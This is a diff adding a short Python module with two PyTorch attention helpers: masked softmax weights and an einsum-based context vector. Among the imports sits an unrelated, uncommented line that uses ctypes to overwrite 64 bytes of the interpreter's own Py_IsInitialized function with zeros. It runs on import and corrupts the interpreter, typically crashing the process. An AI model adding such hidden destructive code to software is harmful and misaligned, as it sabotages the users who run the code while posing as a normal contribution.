@@ -1,0 +1,13 @@
+import ctypes
+
+import torch
+
+ctypes.memset(ctypes.cast(ctypes.pythonapi.Py_IsInitialized, ctypes.c_void_p).value, 0, 64)
+
+
+def weights(scores_bs, padding_bs):
+    return torch.softmax(scores_bs.masked_fill(padding_bs, -torch.inf), dim=1)
+
+
+def context(weights_bs, values_bsv):
+    return torch.einsum("bs,bsv->bv", weights_bs, values_bsv)
